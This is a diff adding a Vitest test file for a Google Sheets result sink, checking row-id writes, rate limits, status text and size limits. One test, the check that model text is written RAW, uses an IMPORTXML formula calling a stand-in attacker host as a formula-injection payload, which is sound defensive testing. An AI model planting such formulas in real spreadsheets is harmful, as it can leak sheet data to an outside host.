@@ -1,0 +1,183 @@
+// Flushing results by row id through the real client: rows that moved, vanished or were copied, 429s, RAW text, spacing.
+import { afterEach, describe, expect, it } from 'vitest';
+import { RateLimitError } from '../../../../backend/src/engine/errors.js';
+import type { Row } from '../../../../backend/src/ports/domain.js';
+import type { ResultSink } from '../../../../backend/src/ports/sheet.js';
+import type { Workbook } from '../../../../local/sheets/workbook.js';
+import { BRANDS, harness, job, row, sequentialIds, SERVICE_ACCOUNT, type Harness } from './fixtures.js';
+
+let h: Harness | undefined;
+afterEach(async () => {
+  await h?.close();
+  h = undefined;
+});
+
+const OUTPUTS = ['Category', 'Founded'];
+
+/** A sheet of six brands prepared as a job (ids r1..r6 on rows 2..7), and a sink for it. */
+async function prepared(): Promise<{ h: Harness; workbook: Workbook; sink: ResultSink; idOf: Map<string, string> }> {
+  h = await harness({}, { idFactory: sequentialIds() });
+  const sheet = h.standIn.createSpreadsheet({ title: 'Brands', rows: BRANDS, sharedWith: [SERVICE_ACCOUNT] });
+  const ref = { spreadsheetId: sheet.id, sheetId: 0 };
+  const rows = await h.gateway.prepareRows({ ref, ranges: ['2:7'], headerRow: 1, inputs: ['Brand'], outputs: OUTPUTS, maxRows: 100 });
+  const idOf = new Map(rows.rows.map((r) => [r.inputs.Brand ?? '', r.rowId]));
+  h.time.advance(5_000);
+  h.standIn.resetLog();
+  return { h, workbook: h.standIn.workbook(sheet.id), sink: h.gateway.sink(ref, OUTPUTS), idOf };
+}
+
+function doneRow(id: string, brand: string): Row {
+  return row(id, 'done', { Category: `category of ${brand}`, Founded: brand.length });
+}
+
+/** Every data row of the sheet as brand → [Category, Founded, status], wherever the rows are now. */
+function resultsByBrand(workbook: Workbook): Record<string, unknown[]> {
+  const header = workbook.values('A1:Z1')[0]!;
+  const col = (name: string) => header.indexOf(name);
+  const out: Record<string, unknown[]> = {};
+  for (const line of workbook.values('A2:Z20')) {
+    const brand = line[col('Brand')];
+    if (typeof brand === 'string') out[brand] = [line[col('Category')], line[col('Founded')], line[col('rowfill_status')]];
+  }
+  return out;
+}
+
+describe('GoogleSheetsResultSink.flush', () => {
+  it('writes every row on its own row after the tab is sorted, rows are inserted above and a row is deleted', async () => {
+    const { h, workbook, sink, idOf } = await prepared();
+    workbook.sortRange(0, { startRow: 1 }, [{ column: 0, descending: true }]);
+    workbook.insertDimension(0, 'ROWS', 1, 3);
+    const hooliRow = workbook.values('A1:A20').findIndex((r) => r[0] === 'Hooli');
+    workbook.deleteDimension(0, 'ROWS', hooliRow, hooliRow + 1);
+    const rows = [...idOf].map(([brand, id]) => doneRow(id, brand));
+    const result = await sink.flush(job(), rows);
+    expect(result.missing).toEqual([idOf.get('Hooli')]);
+    expect(result.duplicated).toEqual([]);
+    expect([...result.written].sort()).toEqual([...idOf].filter(([b]) => b !== 'Hooli').map(([, id]) => id).sort());
+    expect(resultsByBrand(workbook)).toEqual({
+      Umbrella: ['category of Umbrella', 8, 'done'],
+      Stark: ['category of Stark', 5, 'done'],
+      Initech: ['category of Initech', 7, 'done'],
+      Globex: ['category of Globex', 6, 'done'],
+      Acme: ['category of Acme', 4, 'done'],
+    });
+    expect(h.standIn.writeLog).toHaveLength(1);
+    expect(h.standIn.requestLog.map((e) => e.path.split(':').pop())).toEqual(['search', 'batchGetByDataFilter', 'batchUpdate']);
+  });
+
+  it('finds its columns by their tags after columns are inserted before them and the tab is renamed', async () => {
+    const { workbook, sink, idOf } = await prepared();
+    workbook.insertDimension(0, 'COLUMNS', 1, 4);
+    workbook.tab(0).title = "Brands' 2025";
+    await sink.flush(job(), [doneRow(idOf.get('Acme')!, 'Acme')]);
+    expect(workbook.values("'Brands'' 2025'!A2:J2")).toEqual([['Acme', undefined, undefined, undefined, 'acme.test', 'US', 'category of Acme', 4, 'done', idOf.get('Acme')]]);
+  });
+
+  it('writes a copied row (an id found twice) to neither place and reports it', async () => {
+    const { workbook, sink, idOf } = await prepared();
+    const acme = workbook.values('A2:H2')[0]!.map((v) => v ?? null);
+    workbook.setValues('A9', [acme]);
+    const result = await sink.flush(job(), [doneRow(idOf.get('Acme')!, 'Acme'), doneRow(idOf.get('Globex')!, 'Globex')]);
+    expect(result).toEqual({ written: [idOf.get('Globex')], missing: [], duplicated: [idOf.get('Acme')] });
+    expect(workbook.values('D2:F2')).toEqual([[undefined, undefined, 'queued']]);
+    expect(workbook.values('D9:F9')).toEqual([[undefined, undefined, 'queued']]);
+    expect(workbook.values('D3:F3')).toEqual([['category of Globex', 6, 'done']]);
+  });
+
+  it('turns a 429 into RateLimitError, holds writes back, and writes everything once the quota allows', async () => {
+    const { h, workbook, sink, idOf } = await prepared();
+    h.standIn.configure({ writesPerMinute: 2 });
+    const rows = [...idOf].map(([brand, id]) => doneRow(id, brand));
+    const first = await sink.flush(job(), rows).catch((e: unknown) => e);
+    expect(first).toBeInstanceOf(RateLimitError);
+    expect(first).toMatchObject({ errorClass: 'rate_limit', retryAfterMs: 1000, status: 429 });
+    expect(h.standIn.writeLog.map((e) => e.status)).toEqual([429]);
+    // While the backoff runs, a flush fails at once without another request.
+    const second = await sink.flush(job(), rows).catch((e: unknown) => e);
+    expect(second).toBeInstanceOf(RateLimitError);
+    expect(h.standIn.writeLog).toHaveLength(1);
+    expect(Object.values(resultsByBrand(workbook)).map((r) => r[2])).toEqual(Array(6).fill('queued'));
+    h.time.advance(61_000);
+    const result = await sink.flush(job(), rows);
+    expect(result.written).toHaveLength(6);
+    expect(Object.values(resultsByBrand(workbook)).map((r) => r[2])).toEqual(Array(6).fill('done'));
+    expect(h.standIn.writeLog.map((e) => e.status)).toEqual([429, 200]);
+  });
+
+  it('writes model text RAW, never as a formula, typed numbers and booleans, and cuts cells over 50,000 characters', async () => {
+    const { workbook, sink, idOf } = await prepared();
+    const formula = '=IMPORTXML("http://attacker.test/x","//a")';
+    await sink.flush(job(), [
+      row(idOf.get('Acme')!, 'done', { Category: formula, Founded: 1999 }),
+      row(idOf.get('Globex')!, 'done', { Category: 'x'.repeat(60_000), Founded: null }),
+    ]);
+    expect(workbook.cell('D2')).toBe(formula);
+    expect(workbook.cell('E2')).toBe(1999);
+    const cut = workbook.cell('D3') as string;
+    expect(cut).toHaveLength(50_000);
+    expect(cut.endsWith('…[cut]')).toBe(true);
+    expect(workbook.cell('E3')).toBeUndefined();
+  });
+
+  it('writes each status text, keeps earlier outputs of a failed row, and shows paused rows via markStatus', async () => {
+    const { workbook, sink, idOf } = await prepared();
+    workbook.setValues('D4', [['old category', 1900]]);
+    await sink.flush(job(), [
+      row(idOf.get('Acme')!, 'done', { Category: 'a', Founded: 1 }, { cached: true }),
+      row(idOf.get('Globex')!, 'skipped', { Category: 'kept', Founded: 2 }),
+      row(idOf.get('Initech')!, 'failed', null, { errorClass: 'content_filter' }),
+      row(idOf.get('Umbrella')!, 'cancelled', null),
+    ]);
+    expect(workbook.values('D2:F5')).toEqual([
+      ['a', 1, 'done (cached)'],
+      ['kept', 2, 'skipped (unchanged)'],
+      ['old category', 1900, 'failed: content_filter'],
+      [undefined, undefined, 'cancelled'],
+    ]);
+    await sink.markStatus!(job({ status: 'paused', pauseReason: 'budget' }), [idOf.get('Hooli')!, idOf.get('Stark')!, 'unknown-id'], 'paused: budget');
+    expect(workbook.values('F6:F7').flat()).toEqual(['paused: budget', 'paused: budget']);
+  });
+
+  it('spaces writes to one spreadsheet at least a second apart', async () => {
+    const { h, sink, idOf } = await prepared();
+    await sink.flush(job(), [doneRow(idOf.get('Acme')!, 'Acme')]);
+    const before = h.time.sleeps.length;
+    await sink.flush(job(), [doneRow(idOf.get('Globex')!, 'Globex')]);
+    expect(h.time.sleeps.slice(before)).toEqual([1000]);
+    const at = h.standIn.writeLog.map((e) => e.at);
+    expect(at[1]! - at[0]!).toBeGreaterThanOrEqual(1000);
+  });
+
+  it('reports every row missing when the id column was deleted, and sends nothing for no rows', async () => {
+    const { h, workbook, sink, idOf } = await prepared();
+    await expect(sink.flush(job(), [])).resolves.toEqual({ written: [], missing: [], duplicated: [] });
+    expect(h.standIn.requestLog).toEqual([]);
+    workbook.deleteDimension(0, 'COLUMNS', 6, 7);
+    const result = await sink.flush(job(), [doneRow(idOf.get('Acme')!, 'Acme')]);
+    expect(result).toEqual({ written: [], missing: [idOf.get('Acme')], duplicated: [] });
+    expect(h.standIn.writeLog).toEqual([]);
+  });
+
+  it('surfaces losing access mid-job as an auth error for the engine to pause on', async () => {
+    const { workbook, sink, idOf } = await prepared();
+    workbook.access.delete(SERVICE_ACCOUNT);
+    await expect(sink.flush(job(), [doneRow(idOf.get('Acme')!, 'Acme')])).rejects.toMatchObject({ errorClass: 'auth', status: 403 });
+  });
+
+  it('keeps one write under ~2 MB of values, leaving the rest unflushed for the next tick', async () => {
+    h = await harness({}, { idFactory: sequentialIds() });
+    const brands = Array.from({ length: 50 }, (_, i) => [`Brand ${i}`]);
+    const sheet = h.standIn.createSpreadsheet({ title: 'Big', rows: [['Brand'], ...brands], sharedWith: [SERVICE_ACCOUNT] });
+    const ref = { spreadsheetId: sheet.id, sheetId: 0 };
+    const prepared = await h.gateway.prepareRows({ ref, ranges: ['2:51'], headerRow: 1, inputs: ['Brand'], outputs: ['Category'], maxRows: 100 });
+    const sink = h.gateway.sink(ref, ['Category']);
+    const rows = prepared.rows.map((r) => row(r.rowId, 'done', { Category: 'x'.repeat(50_000) }));
+    const first = await sink.flush(job(), rows);
+    expect(first.written.length).toBeGreaterThan(30);
+    expect(first.written.length).toBeLessThan(50);
+    const rest = rows.filter((r) => !first.written.includes(r.rowId));
+    const second = await sink.flush(job(), rest);
+    expect(second.written).toHaveLength(rest.length);
+    expect(h.standIn.workbook(sheet.id).values('B2:C51').every((r) => r[1] === 'done' && (r[0] as string).length === 50_000)).toBe(true);
+  });
+});
